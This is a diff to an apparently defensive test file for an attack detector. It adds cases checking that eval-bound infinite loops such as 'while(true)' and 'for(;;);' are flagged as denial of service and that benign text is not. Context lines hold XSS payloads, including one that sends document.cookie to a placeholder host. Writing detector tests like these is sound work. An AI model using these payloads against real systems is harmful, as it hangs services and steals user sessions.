@@ -40,6 +40,17 @@ describe("sqli", () => {
   });
 });
 
+describe("a loop on a constant sent to an eval (cmdi: Node.js denial of service)", () => {
+  it("flags while on a true constant and for(;;) as the whole value, not loops that end or prose", () => {
+    const loops: StaticArray<string> = ["while(true)", "while(!false)", "while(!-0);", "while(-1);", "while(!'')", "while(!!{})", "while(new Date);", "while(!null)",
+      "while(Infinity)", "while((true)))", "for(;;);", "for (;;) {}"];
+    for (let i = 0; i < loops.length; i++) expect(hits(loops[i], AttackClass.Cmdi)).toBe(true, loops[i]);
+    const benign: StaticArray<string> = ["while(!true);", "while(0)", "while(!!'')", "while(null)", "while(i < n)", "while(x)", "while (true) we wait",
+      "Meanwhile(true story)", "while(true) { doWork(); }", "while you wait (1 min)"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
+  });
+});
+
 describe("xss: the page's cookie and tagged templates behind JavaScript's blanks and comments", () => {
   it("flags a cookie read sent away or hidden, and spaced tagged templates", () => {
     const attacks: StaticArray<string> = ["new Image().src='//x/?'+document.cookie", "document.cookie+'x'", "document /*foo*/ . cookie",
